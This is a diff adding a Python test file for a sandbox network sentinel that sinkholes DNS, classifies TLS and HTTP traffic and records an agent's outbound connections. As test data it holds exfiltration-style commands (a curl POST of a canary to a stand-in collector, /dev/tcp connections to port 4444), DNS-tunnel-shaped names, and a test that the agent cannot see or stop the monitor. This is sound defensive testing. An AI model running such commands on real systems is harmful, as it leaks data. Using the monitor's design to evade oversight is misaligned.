@@ -1,0 +1,193 @@
+"""The network sentinel: its parsers, and what it records around a real local sandbox."""
+
+from __future__ import annotations
+
+import json
+import os
+import ssl
+import struct
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+from hazmat.sandbox import sentinel as sn
+from hazmat.sandbox.base import SandboxSpec
+from hazmat.sandbox.local import LocalSandbox
+from hazmat.sandbox.netwatch import SENTINEL_PATH
+
+pytestmark = pytest.mark.anyio
+
+
+def _query(name: str, qtype: int = 1, tid: int = 0x1234) -> bytes:
+    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split("."))
+    return struct.pack("!HHHHHH", tid, 0x0100, 1, 0, 0, 0) + labels + b"\0" + \
+        struct.pack("!HH", qtype, 1)
+
+
+# parsers ---------------------------------------------------------------------------
+
+
+def test_dns_query_round_trip() -> None:
+    data = _query("evil.example", 1)
+    tid, name, qtype, end = sn.parse_query(data)
+    assert (tid, name, qtype, end) == (0x1234, "evil.example", 1, len(data))
+    reply = sn.build_answer(data, end, qtype, "198.18.0.9")
+    assert reply[:2] == data[:2]
+    assert struct.unpack("!HHHH", reply[4:12]) == (1, 1, 0, 0)
+    assert reply[-4:] == bytes([198, 18, 0, 9])
+
+
+def test_dns_aaaa_for_an_ipv4_sinkhole_has_no_answer() -> None:
+    data = _query("evil.example", 28)
+    *_rest, end = sn.parse_query(data)
+    reply = sn.build_answer(data, end, 28, "198.18.0.9")
+    assert struct.unpack("!H", reply[6:8])[0] == 0
+
+
+@pytest.mark.parametrize("data", [b"", b"\x00" * 11, _query("a.b")[:-3],
+                                  b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\xc0\x0c"])
+def test_malformed_queries_raise_value_error(data: bytes) -> None:
+    with pytest.raises(ValueError):
+        sn.parse_query(data)
+
+
+@pytest.mark.parametrize("name", [
+    "6c6f6f742d6461746131323334353637383961.x.example",
+    "MZXW6YTBOI2DKNRXHA4TAMJSGM3DOOBZGAYTEMZU.data.example",
+    "aGVsbG8gd29ybGQgc2VjcmV0IGZsYWc.tunnel.example",
+    "a" * 41 + ".example",
+])
+def test_exfiltration_shaped_names_are_suspicious(name: str) -> None:
+    assert sn.suspicious_name(name)
+
+
+@pytest.mark.parametrize("name", [
+    "pypi.org", "files.pythonhosted.org", "deb.debian.org", "www.google-analytics.com",
+    "d3c33hcgiwev3.cloudfront.net", "api.github.com", "ec2-3-120-1-5.eu-central-1.compute.example",
+])
+def test_everyday_names_are_not_suspicious(name: str) -> None:
+    assert sn.suspicious_name(name) is None
+
+
+def test_tls_sni_is_read_from_a_real_client_hello() -> None:
+    ctx = ssl.create_default_context()
+    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
+    tls = ctx.wrap_bio(incoming, outgoing, server_hostname="secret-host.example")
+    with pytest.raises(ssl.SSLWantReadError):
+        tls.do_handshake()
+    hello = outgoing.read()
+    assert sn.tls_sni(hello) == "secret-host.example"
+    assert sn.classify(hello) == {"proto": "tls", "host": "secret-host.example"}
+    assert sn.tls_sni(hello[:30]) is None
+
+
+def test_http_head_and_classify() -> None:
+    req = b"POST /up?d=1 HTTP/1.1\r\nHost: c2.example:8080\r\nContent-Length: 3\r\n\r\nabc"
+    assert sn.classify(req) == {"proto": "http", "method": "POST", "path": "/up?d=1",
+                                "host": "c2.example"}
+    assert sn.http_head(b"CONNECT evil.example:443 HTTP/1.1\r\n\r\n")["host"] == "evil.example"
+    assert sn.classify(b"SSH-2.0-OpenSSH_9.2\r\n") == {"proto": "tcp", "host": ""}
+
+
+def test_the_sentinel_refuses_unknown_ops_and_bad_json() -> None:
+    proc = subprocess.run([sys.executable, "-I", "-S", str(SENTINEL_PATH)],
+                          input=b'not json\n{"id": 3, "op": "explode"}\n', capture_output=True,
+                          timeout=20)
+    lines = [json.loads(line) for line in proc.stdout.decode().splitlines()]
+    assert lines[0]["ready"] is True
+    assert lines[1]["error"] == "bad_request"
+    assert lines[2]["id"] == 3 and "unknown op" in lines[2]["message"]
+
+
+# around a real local sandbox ----------------------------------------------------------
+
+
+@pytest.fixture
+async def sandbox():
+    sb = LocalSandbox(SandboxSpec(), run_id="t-sentinel", episode_id="ep-sentinel")
+    await sb.start()
+    try:
+        yield sb
+    finally:
+        await sb.stop()
+
+
+@pytest.mark.timeout(60)
+async def test_lookups_attempts_and_requests_are_recorded(sandbox: LocalSandbox) -> None:
+    if sandbox.sentinel is None:
+        pytest.fail(f"no sentinel: {sandbox.info()['sentinel']}")
+    await sandbox.network_events()
+    res = await sandbox.shell(
+        "getent hosts evil.example; "
+        "curl -s -m 3 -d 'k=CANARY-77' http://collector.example/in; echo; "
+        "(echo x > /dev/tcp/203.0.113.9/4444) 2>/dev/null; "
+        "python3 -c 'import socket; socket.socket(2, 2).sendto(b\"hi\", (\"192.0.2.5\", 9999))'; "
+        "python3 -c 'import socket; socket.socket(2, 2).sendto(b\"q\", (\"8.8.8.8\", 53))'"
+    )
+    assert "blocked by the hazmat network sentinel" in res.stdout_text
+    events = await sandbox.network_events()
+    assert events is not None
+    dns = {e["name"] for e in events if e["type"] == "dns"}
+    assert {"evil.example", "collector.example"} <= dns
+    conns = {(e["proto"], e["remote"], e["port"]) for e in events if e["type"] == "connection"}
+    assert {("tcp", "203.0.113.9", 4444), ("udp", "192.0.2.5", 9999), ("udp", "8.8.8.8", 53)} \
+        <= conns
+    posted = [e for e in events if e["type"] == "network" and e["host"] == "collector.example"]
+    assert posted and posted[0]["method"] == "POST" and "CANARY-77" in posted[0]["payload"]
+    attempt = [e for e in events if e["type"] == "connection" and e.get("host")]
+    assert attempt and attempt[0]["host"] == "collector.example"  # the sinkhole address
+    assert await sandbox.network_events() == []  # drained
+
+
+@pytest.mark.timeout(60)
+async def test_repeated_attempts_are_counted_not_listed(sandbox: LocalSandbox) -> None:
+    await sandbox.network_events()
+    await sandbox.shell("for i in $(seq 50); do (echo > /dev/tcp/203.0.113.7/25) 2>/dev/null; "
+                        "done")
+    events = await sandbox.network_events() or []
+    smtp = [e for e in events if e["type"] == "connection" and e["port"] == 25]
+    assert len(smtp) == 1 and smtp[0]["count"] >= 50
+
+
+@pytest.mark.timeout(60)
+async def test_the_agent_cannot_see_stop_or_impersonate_the_sentinel(
+        sandbox: LocalSandbox) -> None:
+    assert sandbox.sentinel is not None
+    assert sandbox.info()["sentinel"]["uid"] == 65534
+    ps = await sandbox.shell("ps -eo args")
+    assert "sentinel" not in ps.stdout_text
+    # its ports are taken: the agent cannot bind the resolver or sinkhole ports
+    bind = await sandbox.shell(
+        "python3 -c 'import socket; s=socket.socket(2, 2); s.bind((\"0.0.0.0\", 53))'")
+    assert bind.exit_code != 0 and ("in use" in bind.stderr_text or "denied" in bind.stderr_text)
+    # DNS still answers after the agent tried
+    res = await sandbox.shell("getent hosts still.example")
+    assert res.stdout_text.startswith("198.18.")
+
+
+@pytest.mark.timeout(60)
+async def test_stop_ends_the_sentinel_process() -> None:
+    sb = LocalSandbox(SandboxSpec(), run_id="t-sentinel", episode_id="ep-stop")
+    await sb.start()
+    proc = sb._sentinel_proc
+    assert proc is not None and proc.returncode is None
+    pid = proc.pid
+    await sb.stop()
+    assert proc.returncode is not None
+    stat = Path(f"/proc/{pid}/stat")
+    assert not stat.exists() or stat.read_text().split()[2] == "Z"
+
+
+@pytest.mark.timeout(60)
+async def test_sentinel_off_means_no_events() -> None:
+    sb = LocalSandbox(SandboxSpec(sentinel=False), run_id="t-sentinel", episode_id="ep-off")
+    await sb.start()
+    try:
+        assert await sb.network_events() is None
+        assert str(sb.info()["sentinel"]).startswith("unavailable: off")
+        res = await sb.shell("(echo > /dev/tcp/203.0.113.9/80) 2>&1")
+        assert "unreachable" in res.stdout_text
+    finally:
+        await sb.stop()
